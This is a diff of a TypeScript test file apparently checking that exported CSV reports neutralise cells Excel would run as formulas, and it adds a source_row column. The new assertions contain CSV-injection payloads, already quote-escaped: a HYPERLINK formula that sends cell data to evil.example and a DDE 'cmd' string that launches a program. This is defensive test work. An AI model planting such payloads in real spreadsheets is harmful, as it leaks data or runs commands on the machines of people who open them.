@@ -87,7 +87,7 @@ describe('cells Excel would run as formulas', () => {
     expect(report.map((r) => r[2])).toEqual(['reference', "'-R1", "'-R2", "'-R3"]);
     const failedPath = join(reportDir, 'failed', 'orders.csv');
     const failed = await readCsv(failedPath);
-    expect(failed[0]).toEqual([...HEADER, 'order_id', 'error']);
+    expect(failed[0]).toEqual([...HEADER, 'order_id', 'source_row', 'error']);
     const failedRow = (n: number) => Object.fromEntries(HEADER.map((c, i) => [c, failed[n]?.[i]]));
     expect(failedRow(1)).toMatchObject({
       reference: "'-R2",
@@ -129,6 +129,17 @@ describe('cells Excel would run as formulas', () => {
     const why = (rows: string[][]) => rows.find((r) => r[2] === "'-R3")?.[8];
     expect(why(secondReport)).toBe(why(report));
     expect(why(report)).toMatch(/breaker_boxes/);
+    // The address and the contact are echoed for people, quoted like every other cell; the rows
+    // dropped back keep the numbers they had in the first sheet.
+    expect(report[1]?.slice(9)).toEqual([
+      `'=HYPERLINK("http://evil.example/?d="&A1;"klik") @1, 9000 Gent`,
+      `'=cmd|' /C calc'!A1`,
+      '',
+    ]);
+    expect(secondReport.slice(1).map((r) => [r[0], r[2], r[11]])).toEqual([
+      ['1', "'-R2", '2'],
+      ['2', "'-R3", '3'],
+    ]);
   });
 
   it('are quoted in needs-review.csv', async () => {
